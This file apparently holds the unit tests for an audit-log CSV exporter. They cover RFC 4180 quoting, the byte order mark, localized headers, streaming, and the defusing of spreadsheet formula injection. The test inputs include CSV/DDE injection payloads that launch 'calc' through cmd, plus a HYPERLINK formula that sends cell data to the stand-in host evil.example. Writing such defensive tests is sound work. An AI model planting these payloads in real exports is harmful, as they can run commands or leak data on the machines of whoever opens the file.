/**
 * The audit log's CSV: exact output for quotes, line breaks, formula injection and accents, and
 * the whole file read back by an independent reader (Python's csv module, as a spreadsheet
 * import would), from events streamed out of a real SQLite store.
 */
import { execFile } from 'node:child_process';
import { expect } from 'chai';
import { auditCsv, csvField } from '../../src/admin/audit-csv.js';
import { CLI_OPERATOR } from '../../src/identity/actor.js';
import { AuditWriter } from '../../src/storage/ports/audit-writer.js';
import type { AuditEvent } from '../../src/storage/ports/index.js';
import { openSqlStore } from '../../src/storage/sql/index.js';

async function text(chunks: AsyncIterable<string>): Promise<string> {
  let all = '';
  for await (const chunk of chunks) all += chunk;
  return all;
}

async function* each<T>(items: T[]): AsyncGenerator<T> {
  yield* items;
}

function event(overrides: Partial<AuditEvent> = {}): AuditEvent {
  return {
    id: 'e1', tenantId: 'lille', at: new Date('2031-03-10T08:00:00.000Z'), type: 'login.success',
    accountId: 'a1', clientId: 'neo', ip: '192.0.2.7', userAgent: 'UA', details: {}, ...overrides,
  };
}

/** The rows Python's csv module reads from `bytes` (decoded as UTF-8 with its BOM). */
function readWithPython(bytes: Buffer): Promise<string[][]> {
  const script = 'import csv, io, json, sys\n'
    + 'text = io.TextIOWrapper(sys.stdin.buffer, encoding="utf-8-sig", newline="")\n'
    + 'json.dump(list(csv.reader(text, strict=True)), sys.stdout)';
  return new Promise((resolve, reject) => {
    const child = execFile('python3', ['-c', script], { maxBuffer: 16 * 1024 * 1024 }, (error, stdout, stderr) => {
      if (error) reject(new Error(`python3 csv reader failed: ${stderr || error.message}`));
      else resolve(JSON.parse(stdout) as string[][]);
    });
    child.stdin!.end(bytes);
  });
}

describe('audit CSV', () => {
  it('starts with the UTF-8 byte order mark and the header, French unless asked otherwise', async () => {
    const csv = await text(auditCsv(each([])));
    expect(csv).to.equal('\uFEFFdate,type,académie,compte,client,auteur,adresse IP,détails\r\n');
    expect([...Buffer.from(csv, 'utf8').subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
    expect(await text(auditCsv(each([]), { lang: 'en' }))).to.equal('\uFEFFdate,type,tenant,account,client,actor,IP address,details\r\n');
  });

  it('writes one line per event: date, type, tenant, account, client, actor, address, details', async () => {
    const csv = await text(auditCsv(each([
      event({ details: { by: 'admin', admin: 'adm-1', adminTenant: 'lille' } }),
      event({ tenantId: null, accountId: null, clientId: null, ip: null, type: 'client.created', details: { by: 'cli', public: true } }),
    ])));
    const [, first, second, end] = csv.split('\r\n');
    expect(first).to.equal('2031-03-10T08:00:00.000Z,login.success,lille,a1,neo,adm-1,192.0.2.7,"{""by"":""admin"",""admin"":""adm-1"",""adminTenant"":""lille""}"');
    expect(second).to.equal('2031-03-10T08:00:00.000Z,client.created,,,,cli,,"{""by"":""cli"",""public"":true}"');
    expect(end).to.equal('');
  });

  it('quotes fields with commas, quotes and line breaks, doubling the quotes (RFC 4180)', () => {
    expect(csvField('plain')).to.equal('plain');
    expect(csvField('')).to.equal('');
    expect(csvField('a,b')).to.equal('"a,b"');
    expect(csvField('say "hi"')).to.equal('"say ""hi"""');
    expect(csvField('two\nlines')).to.equal('"two\nlines"');
    expect(csvField('two\r\nlines')).to.equal('"two\r\nlines"');
    expect(csvField('it’s; fine')).to.equal('it’s; fine');
  });

  it('defuses a cell a spreadsheet would run as a formula with a leading apostrophe', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\0']) expect(csvField(`${start}1+1`), JSON.stringify(start)).to.equal(`'${start}1+1`);
    expect(csvField('\rcmd')).to.equal(`"'\rcmd"`);
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"clic")')).to.equal(`"'=HYPERLINK(""http://evil.example/?""&A1,""clic"")"`);
    expect(csvField('-2+3+cmd|\' /C calc\'!A0')).to.equal('\'-2+3+cmd|\' /C calc\'!A0');
    // Only the first character matters.
    expect(csvField('a=1')).to.equal('a=1');
    expect(csvField(' =1')).to.equal(' =1');
    expect(csvField("'=1")).to.equal("'=1");
  });

  it('is read back by an independent CSV reader: accents, quotes, line breaks and defused formulas intact', async () => {
    const events = [
      event({ accountId: '=cmd|\'/C calc\'!A0', clientId: 'client, "quoted"', details: { name: 'Hélène Lefèvre', note: 'line one\r\nline two' } }),
      event({ ip: '@SUM(1+1)*cmd|\'/C calc\'!A0', type: '+type', details: {} }),
    ];
    const rows = await readWithPython(Buffer.from(await text(auditCsv(each(events))), 'utf8'));
    expect(rows).to.deep.equal([
      ['date', 'type', 'académie', 'compte', 'client', 'auteur', 'adresse IP', 'détails'],
      ['2031-03-10T08:00:00.000Z', 'login.success', 'lille', '\'=cmd|\'/C calc\'!A0', 'client, "quoted"', '', '192.0.2.7', JSON.stringify(events[0]!.details)],
      ['2031-03-10T08:00:00.000Z', '\'+type', 'lille', 'a1', 'neo', '', '\'@SUM(1+1)*cmd|\'/C calc\'!A0', '{}'],
    ]);
    expect(JSON.parse(rows[1]![7]!)).to.deep.equal({ name: 'Hélène Lefèvre', note: 'line one\r\nline two' });
  });

  it('writes a line as each event arrives, without waiting for the end of the log', async () => {
    async function* endless(): AsyncGenerator<AuditEvent> {
      for (let i = 0; ; i += 1) yield event({ id: `e${i}`, type: `t.${i}` });
    }
    const lines: string[] = [];
    for await (const line of auditCsv(endless())) {
      lines.push(line);
      if (lines.length === 3) break;
    }
    expect(lines.map((l) => l.split(',')[1])).to.deep.equal(['type', 't.0', 't.1']);
  });

  it('exports what a store streams, newest first, batch after batch', async () => {
    const store = await openSqlStore('sqlite::memory:');
    try {
      await store.tenants.upsert({ id: 'lille', name: 'Lille', academyCode: '09' });
      const lille = store.forTenant('lille');
      for (let i = 0; i < 5; i += 1) await lille.audit.record({ type: 'login.success', accountId: `a${i}`, ip: '192.0.2.1' });
      await new AuditWriter(store, CLI_OPERATOR, 'lille').write('client.created', { clientId: 'neo', details: { public: false } });
      await new AuditWriter(store, { kind: 'admin', accountId: 'adm-1', clientId: 'hub-admin-console', role: 'tenant-admin', tenantId: 'lille' }, 'lille').write('account.created', { accountId: 'a9', details: {} });
      const rows = await readWithPython(Buffer.from(await text(auditCsv(lille.audit.stream({}, { batchSize: 2 }))), 'utf8'));
      expect(rows.slice(1).map((r) => [r[1], r[3], r[4], r[5]])).to.deep.equal([
        ['account.created', 'a9', '', 'adm-1'],
        ['client.created', '', 'neo', 'cli'],
        ['login.success', 'a4', '', ''], ['login.success', 'a3', '', ''], ['login.success', 'a2', '', ''],
        ['login.success', 'a1', '', ''], ['login.success', 'a0', '', ''],
      ]);
    } finally {
      await store.close();
    }
  });
});
